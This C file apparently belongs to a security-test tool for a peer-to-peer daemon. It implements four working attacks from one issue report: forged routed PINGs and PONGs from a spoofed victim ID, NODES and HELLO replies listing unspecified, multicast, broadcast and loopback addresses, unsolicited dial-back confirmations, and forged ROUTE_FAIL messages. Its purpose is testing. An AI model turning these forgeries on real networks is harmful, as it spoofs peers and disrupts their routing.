/*
 * p2pload routedforge (issue 9, Low: routed messages' source). One link to
 * the daemon whose HELLO says "server", so the daemon routes through us:
 *  - reflection: routed PINGs "from" a victim (an ID next to ours, so the
 *    daemon's answer comes back to us), unsigned and signed by us; a PONG
 *    for the victim that reaches us is a reflection;
 *  - fake success: every routed PING that we are asked to pass on is
 *    answered at once with a PONG "from" its destination echoing the
 *    nonce (a bare nonce as the old form had, or the payload with its kind
 *    turned into pong). `p2pctl ping VICTIM` succeeding is the fake.
 * Prints "routedforge: id=ID victim=ID" at once, and at the end
 * "routedforge: reflected=R forged_pongs=F".
 */
#include <netinet/in.h>
#include <poll.h>
#include <sodium.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "overlay/overlay.h"
#include "pl.h"
#include "proto/peerid.h"
#include "proto/rping.h"

#define FORGE_PINGS 20 /* reflection attempts, in each form */

struct forge {
	struct p2p_peerid self, victim;
	unsigned reflected, forged;
};

static void send_routed(struct pl_link *l, const struct p2p_peerid *src,
			const struct p2p_peerid *dst, uint8_t app,
			const uint8_t *p, size_t len)
{
	struct p2p_msg m = {.type = P2P_MSG_ROUTED};

	randombytes_buf(&m.u.routed.msgid, sizeof(m.u.routed.msgid));
	m.u.routed.hops = P2P_ROUTE_HOPS;
	m.u.routed.src = *src;
	m.u.routed.dst = *dst;
	m.u.routed.app = app;
	m.u.routed.payload = p;
	m.u.routed.len = len;
	pl_link_send(l, &m);
}

static void on_msg(struct pl_link *l, const struct p2p_msg *m)
{
	struct forge *f = l->ctx;
	uint8_t pay[P2P_RPING_LEN];
	size_t len = m->u.routed.len;

	if (m->type != P2P_MSG_ROUTED)
		return;
	if (m->u.routed.app == P2P_APP_PONG &&
	    p2p_peerid_equal(&m->u.routed.dst, &f->victim)) {
		f->reflected++;
		return;
	}
	if (m->u.routed.app != P2P_APP_PING ||
	    p2p_peerid_equal(&m->u.routed.dst, &f->self) || len > sizeof(pay))
		return;
	/* Pass-through PING: answer it as if we were its destination. */
	memcpy(pay, m->u.routed.payload, len);
	if (len == P2P_RPING_LEN)
		pay[1] = P2P_RPING_PONG;
	send_routed(l, &m->u.routed.dst, &m->u.routed.src, P2P_APP_PONG, pay,
		    len);
	f->forged++;
}

static bool pump(struct pl_link *l, long long ms)
{
	long long end = pl_now_us() + ms * 1000LL;

	while (l->state != PL_DEAD && pl_now_us() < end) {
		struct pollfd p = {.fd = l->fd, .events = pl_link_events(l)};
		if (poll(&p, 1, 20) > 0)
			pl_link_io(l, p.revents);
	}
	return l->state != PL_DEAD;
}

int pl_cmd_routedforge(int argc, char **argv)
{
	struct p2p_addr a;
	struct sockaddr_storage ss;
	socklen_t sl;
	struct pl_link l;
	struct forge f = {0};
	long secs = pl_opt(argc, argv, "--seconds", 5);
	char t1[P2P_ID_TEXT_LEN + 1], t2[P2P_ID_TEXT_LEN + 1];
	const struct p2p_peerid *daemon;
	long long end;

	if (argc < 2 || secs < 1 || pl_sockaddr(argv[1], &a, &ss, &sl) < 0)
		return PL_USAGE;
	if (pl_link_dial(&l, &a, &ss, sl, NULL) < 0) {
		pl_link_free(&l);
		return PL_IO;
	}
	l.say_server = true;
	l.on_msg = on_msg;
	l.ctx = &f;
	end = pl_now_us() + 5000000LL;
	while (l.state != PL_DEAD && !(l.state == PL_UP && l.got_hello) &&
	       pl_now_us() < end)
		pump(&l, 50);
	if (l.state != PL_UP || !l.got_hello) {
		printf("routedforge: no link\n");
		pl_link_free(&l);
		return PL_IO;
	}
	f.self = l.ident.id;
	f.victim = f.self;
	f.victim.b[P2P_ID_LEN - 1] ^= 1; /* nearer to us than anyone */
	daemon = p2p_session_peer(l.sess);
	p2p_peerid_to_text(&f.self, t1);
	p2p_peerid_to_text(&f.victim, t2);
	printf("routedforge: id=%s victim=%s\n", t1, t2);
	fflush(stdout);
	for (int i = 0; i < FORGE_PINGS; i++) {
		uint8_t pay[P2P_RPING_LEN];
		uint64_t nonce;

		randombytes_buf(&nonce, sizeof(nonce));
		send_routed(&l, &f.victim, daemon, P2P_APP_PING,
			    (const uint8_t *)&nonce, sizeof(nonce));
		if (p2p_rping_encode(P2P_RPING_PING, nonce, &l.ident, daemon,
				     pay) == 0)
			send_routed(&l, &f.victim, daemon, P2P_APP_PING, pay,
				    sizeof(pay));
		pump(&l, 20);
	}
	pump(&l, secs * 1000);
	printf("routedforge: reflected=%u forged_pongs=%u%s\n", f.reflected,
	       f.forged, l.state == PL_DEAD ? " (closed by the daemon)" : "");
	pl_link_free(&l);
	return PL_OK;
}

/*
 * p2pload badaddrs (issue 9, Low: addresses from NODES and HELLO): a link
 * whose HELLO says "server" and claims the unspecified address at PORT,
 * and whose NODES replies list contacts at 0.0.0.0, ::, 224.0.0.1 and
 * 255.255.255.255, all at PORT, for S seconds. On Linux a connect to
 * 0.0.0.0 or :: reaches this host: a listener on PORT counts any dial.
 * With --control Q, one more contact at 127.0.0.1:Q, which a daemon on
 * loopback may dial (a listener there shows that NODES were acted on).
 * Prints "badaddrs: finds=N nodes=M".
 */
int pl_cmd_badaddrs(int argc, char **argv)
{
	static const uint8_t bad[][16] = {
	    {0},
	    {0},
	    {224, 0, 0, 1},
	    {255, 255, 255, 255},
	};
	struct p2p_contact nodes[5];
	struct p2p_addr a;
	struct sockaddr_storage ss;
	socklen_t sl;
	struct pl_link l;
	long secs = pl_opt(argc, argv, "--seconds", 4);
	long port = pl_opt(argc, argv, "--port", 0);
	long ctl = pl_opt(argc, argv, "--control", 0);
	unsigned finds = 0;
	long long end;

	if (argc < 2 || secs < 1 || port < 1 || port > 65535 ||
	    pl_sockaddr(argv[1], &a, &ss, &sl) < 0)
		return PL_USAGE;
	for (size_t i = 0; i < 4; i++) {
		randombytes_buf(nodes[i].id.b, P2P_ID_LEN);
		nodes[i].addr = (struct p2p_addr){.family = i == 1 ? 6 : 4,
						  .port = (uint16_t)port};
		memcpy(nodes[i].addr.ip, bad[i], 16);
	}
	if (pl_link_dial(&l, &a, &ss, sl, NULL) < 0) {
		pl_link_free(&l);
		return PL_IO;
	}
	l.say_server = true;
	l.claim = nodes[0].addr;
	l.nodes = nodes;
	l.nnodes = 4;
	if (ctl > 0 && ctl < 65536) {
		randombytes_buf(nodes[4].id.b, P2P_ID_LEN);
		nodes[4].addr = (struct p2p_addr){
		    .family = 4, .port = (uint16_t)ctl, .ip = {127, 0, 0, 1}};
		l.nnodes = 5;
	}
	end = pl_now_us() + secs * 1000000LL;
	while (l.state != PL_DEAD && pl_now_us() < end) {
		struct p2p_msg m = {.type = P2P_MSG_FIND_NODE};
		/* Ask too, so that the daemon's answers show we are up. */
		if (l.state == PL_UP && l.got_hello && finds < 5) {
			m.u.find_node.txid = ++finds;
			randombytes_buf(m.u.find_node.target.b, P2P_ID_LEN);
			pl_link_send(&l, &m);
		}
		pump(&l, 100);
	}
	printf("badaddrs: finds=%u nodes=%u%s\n", finds, l.nodes_rx,
	       l.state == PL_DEAD ? " (closed by the daemon)" : "");
	pl_link_free(&l);
	return PL_OK;
}

/*
 * p2pload dialbackok (issue 9, Low: DIALBACK_OK): listen on ADDR:PORT as
 * a server; every daemon that dials us and asks for a dial-back gets its
 * nonce back in DIALBACK_OK at once, on the link it asked over (not a
 * dial-back: the daemon is still unreachable as far as we know), three
 * times. Runs S seconds; prints "dialbackok: asks=N oks=M".
 */
struct dbok {
	unsigned asks, oks;
};

static void dbok_on_msg(struct pl_link *l, const struct p2p_msg *m)
{
	struct dbok *x = l->ctx;
	struct p2p_msg r = {.type = P2P_MSG_DIALBACK_OK};

	if (m->type != P2P_MSG_DIALBACK)
		return;
	x->asks++;
	r.u.dialback.nonce = m->u.dialback.nonce;
	for (int i = 0; i < 3; i++, x->oks++)
		pl_link_send(l, &r);
}

#define DBOK_LINKS 8

int pl_cmd_dialbackok(int argc, char **argv)
{
	struct p2p_addr a;
	struct sockaddr_storage ss;
	socklen_t sl;
	struct pl_link links[DBOK_LINKS];
	struct dbok x = {0};
	size_t nl = 0;
	long secs = pl_opt(argc, argv, "--seconds", 5);
	long long end;
	int one = 1, lfd;

	if (argc < 2 || secs < 1 || pl_sockaddr(argv[1], &a, &ss, &sl) < 0)
		return PL_USAGE;
	lfd = socket(ss.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (lfd < 0)
		return PL_IO;
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(lfd, (struct sockaddr *)&ss, sl) < 0 || listen(lfd, 8) < 0) {
		close(lfd);
		return PL_IO;
	}
	printf("dialbackok: listening\n");
	fflush(stdout);
	end = pl_now_us() + secs * 1000000LL;
	while (pl_now_us() < end) {
		struct pollfd p[DBOK_LINKS + 1];

		p[0] = (struct pollfd){.fd = lfd, .events = POLLIN};
		for (size_t i = 0; i < nl; i++)
			p[i + 1] = (struct pollfd){
			    .fd = links[i].fd,
			    .events = pl_link_events(&links[i])};
		if (poll(p, nl + 1, 50) <= 0)
			continue;
		for (size_t i = 0; i < nl; i++)
			pl_link_io(&links[i], p[i + 1].revents);
		if ((p[0].revents & POLLIN) && nl < DBOK_LINKS) {
			struct sockaddr_storage from;
			socklen_t fl = sizeof(from);
			int fd = accept4(lfd, (struct sockaddr *)&from, &fl,
					 SOCK_NONBLOCK | SOCK_CLOEXEC);
			struct p2p_addr ra = a;
			if (fd < 0)
				continue;
			if (from.ss_family == AF_INET) {
				struct sockaddr_in *s4 = (void *)&from;
				ra.family = 4;
				memset(ra.ip, 0, 16);
				memcpy(ra.ip, &s4->sin_addr, 4);
				ra.port = ntohs(s4->sin_port);
			}
			if (pl_link_accept(&links[nl], fd, &ra) < 0) {
				close(fd);
				continue;
			}
			links[nl].say_server = true;
			links[nl].on_msg = dbok_on_msg;
			links[nl].ctx = &x;
			nl++;
		}
	}
	printf("dialbackok: asks=%u oks=%u\n", x.asks, x.oks);
	for (size_t i = 0; i < nl; i++)
		pl_link_free(&links[i]);
	close(lfd);
	return PL_OK;
}

/*
 * p2pload routefail (issue 9, Low: forged ROUTE_FAIL): two links to the
 * daemon from one attacker, the first saying "server", the second not
 * (so the daemon routes nothing through it). A routed message for the
 * victim (an ID next to the first link's) goes to the first link; the
 * attacker keeps it and, over the second link, off the message's path,
 * sends the daemon a ROUTE_FAIL naming its msgid. Prints
 * "routefail: victim=ID" at once, then "routefail: forged=N".
 */
struct rfail {
	struct p2p_peerid victim, daemon;
	struct pl_link *off; /* the link off the path */
	unsigned forged;
};

static void rfail_on_msg(struct pl_link *l, const struct p2p_msg *m)
{
	struct rfail *x = l->ctx;
	uint8_t body[8];

	if (m->type != P2P_MSG_ROUTED ||
	    !p2p_peerid_equal(&m->u.routed.dst, &x->victim) ||
	    m->u.routed.app == P2P_APP_ROUTE_FAIL)
		return;
	for (int i = 0; i < 8; i++)
		body[i] = (uint8_t)(m->u.routed.msgid >> (56 - 8 * i));
	send_routed(x->off, &x->off->ident.id, &m->u.routed.src,
		    P2P_APP_ROUTE_FAIL, body, sizeof(body));
	x->forged++;
}

int pl_cmd_routefail(int argc, char **argv)
{
	struct p2p_addr a;
	struct sockaddr_storage ss;
	socklen_t sl;
	struct pl_link l[2];
	struct rfail x = {0};
	long secs = pl_opt(argc, argv, "--seconds", 5);
	char t[P2P_ID_TEXT_LEN + 1];
	long long end;

	if (argc < 2 || secs < 1 || pl_sockaddr(argv[1], &a, &ss, &sl) < 0)
		return PL_USAGE;
	for (int i = 0; i < 2; i++) {
		if (pl_link_dial(&l[i], &a, &ss, sl, NULL) < 0) {
			printf("routefail: no link\n");
			return PL_IO;
		}
		l[i].ctx = &x;
	}
	l[0].say_server = true;
	l[0].on_msg = rfail_on_msg;
	x.off = &l[1];
	end = pl_now_us() + 5000000LL;
	while (pl_now_us() < end) {
		struct pollfd p[2];
		bool up = true;
		for (int i = 0; i < 2; i++) {
			p[i] = (struct pollfd){.fd = l[i].fd,
					       .events = pl_link_events(&l[i])};
			up = up && l[i].state == PL_UP && l[i].got_hello;
		}
		if (up)
			break;
		if (poll(p, 2, 20) > 0)
			for (int i = 0; i < 2; i++)
				pl_link_io(&l[i], p[i].revents);
	}
	if (l[0].state != PL_UP || l[1].state != PL_UP) {
		printf("routefail: no link\n");
		pl_link_free(&l[0]);
		pl_link_free(&l[1]);
		return PL_IO;
	}
	x.victim = l[0].ident.id;
	x.victim.b[P2P_ID_LEN - 1] ^= 1;
	p2p_peerid_to_text(&x.victim, t);
	printf("routefail: victim=%s\n", t);
	fflush(stdout);
	end = pl_now_us() + secs * 1000000LL;
	while (pl_now_us() < end) {
		struct pollfd p[2];
		for (int i = 0; i < 2; i++)
			p[i] = (struct pollfd){.fd = l[i].fd,
					       .events = pl_link_events(&l[i])};
		if (poll(p, 2, 20) > 0)
			for (int i = 0; i < 2; i++)
				pl_link_io(&l[i], p[i].revents);
	}
	printf("routefail: forged=%u\n", x.forged);
	pl_link_free(&l[0]);
	pl_link_free(&l[1]);
	return PL_OK;
}
